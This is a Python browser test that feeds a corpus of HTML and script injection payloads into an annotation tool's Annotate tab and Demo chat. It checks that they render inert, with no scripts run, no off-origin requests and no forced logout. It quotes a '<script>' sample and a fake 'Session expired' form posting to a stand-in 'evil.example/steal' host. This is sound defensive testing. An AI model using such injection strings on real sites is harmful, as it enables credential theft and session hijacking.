"""Issue 8, item 3 in a real browser: the payload corpus as prompts, answers, guidelines and a Demo chat message,
shown to an annotator in Chromium. No form, input, button, image or svg appears inside the rendered text, no script
runs, and no request leaves the page for another origin or reaches /ui/logout (the annotator stays logged in).
"""

from __future__ import annotations

from urllib.parse import urlsplit

import test_browser
from render_corpus import FORBIDDEN_TAGS, HELD_BEFORE, PAYLOADS

from storage.items import AnswerRecord

browser = test_browser.browser  # the same Chromium and login as tests/test_browser.py
login = test_browser.login

# Run in the page: what in `selector`'s rendered text could act for the reader.
FIND_PROBLEMS = """([selector, forbidden]) => {
    const found = [];
    for (const root of document.querySelectorAll(selector)) {
        for (const el of root.querySelectorAll("*")) {
            const tag = el.tagName.toLowerCase();
            if (forbidden.includes(tag)) found.push(`<${tag}> in ${selector}`);
            for (const attr of el.attributes) {
                if (attr.name.startsWith("on")) found.push(`${attr.name} on <${tag}> in ${selector}`);
            }
            for (const name of ["href", "src", "action", "formaction", "srcset"]) {
                if (!el.hasAttribute(name)) continue;
                const url = new URL(el.getAttribute(name), location.href);
                if (url.origin === location.origin || !["http:", "https:", "mailto:"].includes(url.protocol)) {
                    found.push(`${name}=${el.getAttribute(name)} on <${tag}> in ${selector}`);
                }
            }
        }
    }
    return found;
}"""
TEXT = "#pl-prompt, #pl-answer-0, #pl-answer-1, #pl-answer-2, #pl-answer-3"


def _items_from_the_corpus(ctx, k: int) -> int:
    """One item per k+1 payloads (its prompt and k answers): each payload alone, as a prompt file or model gives it."""
    texts = list(PAYLOADS.values()) + list(HELD_BEFORE.values())
    chunks = [texts[i:i + k + 1] for i in range(0, len(texts), k + 1)]
    for n, (prompt, *answers) in enumerate(chunks):
        answers = (answers + ["a plain answer"] * k)[:k]
        prompt_id = ctx.store.prompts.add([f"{prompt}\n\n(item {n})"]).prompt_ids[0]
        ctx.store.items.add(prompt_id, 0, {}, [AnswerRecord(t, 5, "eos", -1.0) for t in answers])
    return len(chunks)


def _leaving(requests: list[str], own_url: str) -> list[str]:
    """Requests the page sent to another origin, or to log its user out."""
    own = urlsplit(own_url)[:2]
    return [url for url in requests if urlsplit(url)[:2] != own or "/logout" in url]


def test_the_payload_corpus_renders_inert_in_the_annotate_tab_and_the_demo_chat(ctx, server, login):
    n_items = _items_from_the_corpus(ctx, ctx.config.k)
    ctx.store.settings.set("guidelines", PAYLOADS["escaped_backtick_form"] + "\n\n" + PAYLOADS["image_logout"])
    page = login("ann")
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))

    seen = set()
    for _ in range(n_items):
        page.locator("#pl-answer-0").get_by_text("Answer 1").wait_for()
        prompt = page.locator("#pl-prompt").inner_text()
        assert prompt not in seen, "the same item came back: the annotator was logged out and in again?"
        seen.add(prompt)
        assert page.evaluate(FIND_PROBLEMS, [f"{TEXT}, #pl-guidelines", sorted(FORBIDDEN_TAGS)]) == []
        assert _leaving(requests, server.url) == []
        page.locator("#pl-skip").click()
        page.locator("#pl-prompt").filter(has_not_text=prompt).wait_for()
    assert len(seen) == n_items
    page.get_by_text("Nothing to rank right now").wait_for()

    page.get_by_role("tab", name="Demo").click()
    message = PAYLOADS["escaped_backtick_form"] + " " + PAYLOADS["image_logout"] + " " + HELD_BEFORE["script"]
    page.get_by_label("message").fill(message)
    page.get_by_role("button", name="Send").click()
    user_message = page.locator("#pl-chat [data-testid='user']")
    user_message.get_by_text("<script>window.__pwned = 1</script>").wait_for()
    page.locator("#pl-chat [data-testid='bot']").first.wait_for()
    chat = "#pl-chat [data-testid='user'] .message-content, #pl-chat [data-testid='bot'] .message-content"
    assert page.evaluate(FIND_PROBLEMS, [chat, sorted(FORBIDDEN_TAGS)]) == []
    assert "Session expired. `<form action=https://evil.example/steal>" in user_message.inner_text()

    assert page.evaluate("window.__pwned === undefined")
    assert _leaving(requests, server.url) == []
    page.reload()
    page.get_by_role("tab", name="Annotate").wait_for()  # still logged in
